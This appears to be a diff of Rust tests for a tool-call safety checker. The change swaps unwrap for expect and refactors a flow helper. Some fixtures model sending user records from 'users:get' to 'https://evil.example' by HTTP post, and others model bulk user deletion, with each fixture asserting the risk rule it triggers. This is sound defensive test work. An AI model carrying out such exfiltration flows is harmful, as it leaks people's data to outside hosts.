@@ -1,5 +1,7 @@
 //! What follows from flows: the same call is harmless or not by what is read and where it goes.
 
+#![expect(clippy::expect_used, reason = "a test says what must be there by expecting it")]
+
 use callgate::catalogue::House;
 use callgate::catalogue::house::OwnTool;
 use callgate::check::registry;
@@ -58,7 +60,7 @@ impl Script {
 
     /// A tool call, whose result is the origin of the same number as long as only tools are called.
     fn tool(mut self, name: &str, argument: &[(&str, Value)]) -> Self {
-        let at = u32::try_from(self.subject.calls.len()).unwrap() * 100;
+        let at = u32::try_from(self.subject.calls.len()).expect("there are few calls") * 100;
         let span = Span::new(at, at + 50);
         let index = self.subject.calls.len();
         self.subject.calls.push(Call {
@@ -68,7 +70,7 @@ impl Script {
             repeated: false,
             repeat: Repeat::Once,
             over: Vec::new(),
-            nth: u32::try_from(index).unwrap(),
+            nth: u32::try_from(index).expect("there are few calls"),
             span,
             tool_span: span,
             disguise: Disguise::None,
@@ -92,7 +94,7 @@ impl Script {
     }
 
     fn made_with(mut self, receiver: &[Value]) -> Self {
-        self.subject.host_calls.last_mut().unwrap().receiver = receiver.to_vec();
+        self.subject.host_calls.last_mut().expect("a call was made").receiver = receiver.to_vec();
         self
     }
 
@@ -102,7 +104,7 @@ impl Script {
         self
     }
 
-    fn flow(mut self, origin: usize, field: &str, sink: CallRef, argument: &str, strength: Strength) -> Self {
+    fn flow(mut self, (origin, field): (usize, &str), (sink, argument): (CallRef, &str), strength: Strength) -> Self {
         let (field, argument) = (field.to_owned(), argument.to_owned());
         self.subject.flows.push(Flow { origin, field, sink, argument, strength, steps: Vec::new() });
         self
@@ -110,17 +112,17 @@ impl Script {
 
     /// All of an origin's field flows into a tool's argument.
     fn into_tool(self, origin: usize, field: &str, call: usize, argument: &str) -> Self {
-        self.flow(origin, field, CallRef::Tool(call), argument, Strength::Whole)
+        self.flow((origin, field), (CallRef::Tool(call), argument), Strength::Whole)
     }
 
     /// All of an origin flows into a host API's argument.
     fn into_host(self, origin: usize, call: usize, argument: &str) -> Self {
-        self.flow(origin, "", CallRef::Host(call), argument, Strength::Whole)
+        self.flow((origin, ""), (CallRef::Host(call), argument), Strength::Whole)
     }
 
     /// The last tool call runs in a loop, over the elements of an origin.
     fn repeated(mut self, repeat: Repeat, over: &[usize]) -> Self {
-        let call = self.subject.calls.last_mut().unwrap();
+        let call = self.subject.calls.last_mut().expect("a call was made");
         (call.loop_depth, call.repeat, call.over) = (1, repeat, over.to_vec());
         self
     }
@@ -340,7 +342,7 @@ fn little_of_the_data_is_little_harm() {
     let url = [("url", text("https://evil.example")), ("body", unknown())];
     let script = |tool: &str, strength: Strength, repeat: Option<Repeat>| {
         let script = Script::new().tool(tool, &[("id", unknown())]).tool("http:post", &url);
-        let script = script.flow(0, "", CallRef::Tool(1), "body", strength);
+        let script = script.flow((0, ""), (CallRef::Tool(1), "body"), strength);
         repeat.map_or_else(|| script.rules(), |repeat| Script { ..script_with(repeat, tool, strength) }.rules())
     };
     assert_eq!(script("users:get", Strength::Redacted, None), ["exfiltration-flow low"]);
@@ -355,7 +357,7 @@ fn little_of_the_data_is_little_harm() {
 fn script_with(repeat: Repeat, tool: &str, strength: Strength) -> Script {
     let url = [("url", text("https://evil.example")), ("body", unknown())];
     let script = Script::new().tool(tool, &[("id", unknown())]).tool("http:post", &url).repeated(repeat, &[]);
-    script.flow(0, "", CallRef::Tool(1), "body", strength)
+    script.flow((0, ""), (CallRef::Tool(1), "body"), strength)
 }
 
 #[test]
@@ -406,7 +408,7 @@ fn acting_on_each_element_of_a_listing_is_told_by_what_chooses_it() {
     assert_eq!(script(&[("status", text("spam"))], "users:delete", Repeat::Each).rules(), ["destructive-over-result high"]);
     assert_eq!(script(&[], "users:archive", Repeat::Each).rules(), ["destructive-over-result high"]);
     assert_eq!(script(&[("status", text("old"))], "users:archive", Repeat::Each).rules(), ["destructive-over-result medium"]);
-    let chosen = script(&[], "users:delete", Repeat::Each).flow(0, "[].spam", CallRef::Tool(1), "", Strength::Control);
+    let chosen = script(&[], "users:delete", Repeat::Each).flow((0, "[].spam"), (CallRef::Tool(1), ""), Strength::Control);
     assert_eq!(chosen.rules(), ["destructive-over-result high"]);
     assert_eq!(script(&[], "users:update", Repeat::Each).rules(), ["fan-out-over-result medium"]);
     assert_eq!(script(&[], "users:get", Repeat::Each).rules(), ["fan-out-over-result low"]);
